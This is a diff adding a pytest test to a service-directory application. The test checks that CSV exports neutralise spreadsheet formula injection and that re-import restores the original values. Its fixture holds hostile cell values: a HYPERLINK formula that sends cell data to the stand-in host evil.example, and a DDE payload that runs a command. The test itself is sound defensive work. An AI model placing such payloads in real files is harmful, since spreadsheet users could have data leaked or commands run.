@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import shutil
 from pathlib import Path
@@ -248,3 +249,30 @@ def test_the_sample_directory_is_imported_only_for_the_sample_deployment_into_an
     assert "importing the fictional sample directory" in out and "29 places: 29 created" in out
     assert cli.main(["services", "sample"]) == 0
     assert "already has 31 services; nothing imported" in capsys.readouterr().out
+
+
+def test_an_export_opens_as_text_in_a_spreadsheet_and_imports_back_unchanged(sessions, tmp_path):
+    """Cells a spreadsheet would run as formulas get a leading quote (OWASP "CSV Injection");
+    negative coordinates stay numbers; the import takes the quote off again."""
+    hostile = (GOOD.replace("Test clinic,", '=HYPERLINK("http://evil.example/"&A1;"Open"),')
+               .replace("A clinic,", "@SUM(1+1)*cmd|' /C calc'!A0,")
+               .replace("11.8333,13.15,+999 1,", "-3.38,-60.021,+999 1 555,"))
+    with sessions() as session:
+        assert import_file(session, write(tmp_path, hostile)).created == 1
+        buffer = io.StringIO()
+        assert export_file(session, buffer) == 1
+    *_, row = list(csv.reader(io.StringIO(buffer.getvalue())))
+    cells = dict(zip([tag for tag, _ in COLUMNS.values()], row))
+    assert cells["#service+name"] == '\'=HYPERLINK("http://evil.example/"&A1;"Open")'
+    assert cells["#description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert cells["#contact+phone"] == "'+999 1 555"
+    assert (cells["#geo+lat"], cells["#geo+lon"]) == ("-3.38", "-60.021")  # numbers stay numbers
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
+    exported = tmp_path / "export.csv"
+    exported.write_text(buffer.getvalue(), encoding="utf-8")
+    with sessions() as session:
+        report = import_file(session, exported)
+        service = session.execute(sa.select(Service)).scalar_one()
+    assert (report.unchanged, report.rejected) == (1, 0)
+    assert service.name.startswith("=HYPERLINK") and service.phone == "+999 1 555"
+    assert (service.lat, service.lon) == (-3.38, -60.021)
